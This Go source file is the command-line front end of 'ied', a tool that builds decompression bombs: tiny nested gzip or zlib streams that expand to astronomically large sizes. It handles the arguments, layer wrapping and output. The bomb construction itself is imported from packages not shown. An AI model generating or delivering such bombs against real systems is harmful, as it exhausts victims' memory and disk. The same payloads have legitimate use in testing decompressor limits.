// Copyright 2024 The ied Authors.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//    https://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

// ----------------

/*
ied generates decompression bombs: small compressed byte streams that
expand to astronomically large outputs under gzip/zlib.

Usage:

	ied <encoding> <size> [payload-segments...] [flags]

encoding is a comma-separated list of "gzip" or "deflate" (the latter maps
to a zlib container), applied left to right: the leftmost token becomes
the outermost (written) layer.

size is the decimal, non-negative, arbitrary-precision size handed to the
outermost layer's Fill call.

Payload segments, consumed left to right and interleaved freely with the
flags below:

	-f path    a literal Block taken from the contents of path
	-l char    a Bomb whose pattern is the single byte ord(char[0])
	-L byte    a Bomb whose pattern is the single byte given in decimal

Flags:

	-o path    write output to path instead of stdout
	-force     permit writing raw bytes to an interactive stdout
	-v         print each layer's size to stderr before writing
*/
package main

import (
	"flag"
	"fmt"
	"io"
	"math/big"
	"os"
	"strconv"
	"strings"
	"unicode/utf8"

	"golang.org/x/xerrors"

	"github.com/NateChoe1/ied/deflatebomb"
	"github.com/NateChoe1/ied/internal/isaterm"
	"github.com/NateChoe1/ied/payload"
)

// ErrUnknownEncoding is returned when an encoding token is neither "gzip"
// nor "deflate".
var ErrUnknownEncoding = xerrors.New("ied: unknown encoding")

// errRefusingTerminal is returned when stdout is an interactive terminal
// and -force was not given.
var errRefusingTerminal = xerrors.New("ied: refusing to write raw bomb bytes to a terminal; pass -force to override")

func main() {
	if err := main1(os.Args[1:]); err != nil {
		os.Stderr.WriteString(err.Error() + "\n")
		os.Exit(1)
	}
}

func usage() {
	os.Stdout.WriteString(
		"Usage: ied <encoding> <size> [-f path] [-l char] [-L byte] [-o path] [-force] [-v]\n")
}

func main1(args []string) error {
	if len(args) < 2 {
		usage()
		return nil
	}

	encodingArg, sizeArg := args[0], args[1]

	size, ok := new(big.Int).SetString(sizeArg, 10)
	if !ok || size.Sign() < 0 {
		return xerrors.Errorf("ied: invalid size %q", sizeArg)
	}

	var segs []payload.Segment
	fs := flag.NewFlagSet("ied", flag.ContinueOnError)
	fs.Var(&segmentFlag{&segs, "f"}, "f", "literal Block from file contents")
	fs.Var(&segmentFlag{&segs, "l"}, "l", "Bomb with pattern [ord(char)]")
	fs.Var(&segmentFlag{&segs, "L"}, "L", "Bomb with pattern [byte], decimal 0-255")
	outPath := fs.String("o", "", "write output to path instead of stdout")
	force := fs.Bool("force", false, "permit writing raw bytes to an interactive terminal")
	verbose := fs.Bool("v", false, "print per-layer sizes to stderr")
	if err := fs.Parse(args[2:]); err != nil {
		return err
	}

	top, err := buildPayload(segs, encodingArg)
	if err != nil {
		return err
	}

	top.Fill(size)

	if *verbose {
		printLayers(os.Stderr, top)
	}

	w, closeSink, err := openSink(*outPath, *force)
	if err != nil {
		return err
	}
	defer closeSink()

	return top.Write(w)
}

// buildPayload wraps the innermost payload (segs) with one deflatebomb
// layer per token in encodingArg. Tokens are applied right to left so
// that, per the CLI grammar, the leftmost token ends up the outermost
// (last-applied, first-written) layer.
func buildPayload(segs []payload.Segment, encodingArg string) (*payload.Payload, error) {
	top := payload.New(segs)
	tokens := strings.Split(encodingArg, ",")
	for i := len(tokens) - 1; i >= 0; i-- {
		tok := strings.TrimSpace(tokens[i])
		var err error
		switch tok {
		case "gzip":
			top, err = deflatebomb.Gzip(top)
		case "deflate":
			top, err = deflatebomb.Zlib(top)
		default:
			return nil, xerrors.Errorf("%w: %q", ErrUnknownEncoding, tok)
		}
		if err != nil {
			return nil, xerrors.Errorf("ied: wrapping with %q: %w", tok, err)
		}
	}
	return top, nil
}

// openSink resolves the write destination: a file named by -o, or stdout,
// refusing an interactive stdout unless force is set. The returned func
// closes the sink and must always be called.
func openSink(outPath string, force bool) (io.Writer, func(), error) {
	if outPath != "" {
		f, err := os.Create(outPath)
		if err != nil {
			return nil, nil, xerrors.Errorf("ied: -o %s: %w", outPath, err)
		}
		return f, func() { f.Close() }, nil
	}
	if isaterm.Stdout() && !force {
		return nil, nil, errRefusingTerminal
	}
	return os.Stdout, func() {}, nil
}

// printLayers writes each layer's logical Size, outermost first, for -v.
func printLayers(w io.Writer, top *payload.Payload) {
	for i, p := 0, top; p != nil; i, p = i+1, p.Child {
		fmt.Fprintf(w, "layer %d: %s bytes\n", i, p.Size().String())
	}
}

// segmentFlag is a flag.Value that appends a new Segment to *segs every
// time it is Set, preserving the command line's left-to-right order
// across -f/-l/-L regardless of which of the three was used at each
// position — flag.Parse calls Set in argument order, so this is enough to
// reconstruct "segments, consumed left to right" without a custom parser.
type segmentFlag struct {
	segs *[]payload.Segment
	kind string
}

func (s *segmentFlag) String() string { return "" }

func (s *segmentFlag) Set(value string) error {
	switch s.kind {
	case "f":
		data, err := os.ReadFile(value)
		if err != nil {
			return xerrors.Errorf("ied: -f %s: %w", value, err)
		}
		*s.segs = append(*s.segs, payload.NewBlock(data))
	case "l":
		r, size := utf8.DecodeRuneInString(value)
		if size == 0 {
			return xerrors.Errorf("ied: -l: missing character")
		}
		seg, err := payload.NewBomb([]byte{byte(r)})
		if err != nil {
			return xerrors.Errorf("ied: -l %s: %w", value, err)
		}
		*s.segs = append(*s.segs, seg)
	case "L":
		n, err := strconv.ParseUint(value, 10, 8)
		if err != nil {
			return xerrors.Errorf("ied: -L %s: %w", value, err)
		}
		seg, err := payload.NewBomb([]byte{byte(n)})
		if err != nil {
			return xerrors.Errorf("ied: -L %s: %w", value, err)
		}
		*s.segs = append(*s.segs, seg)
	}
	return nil
}
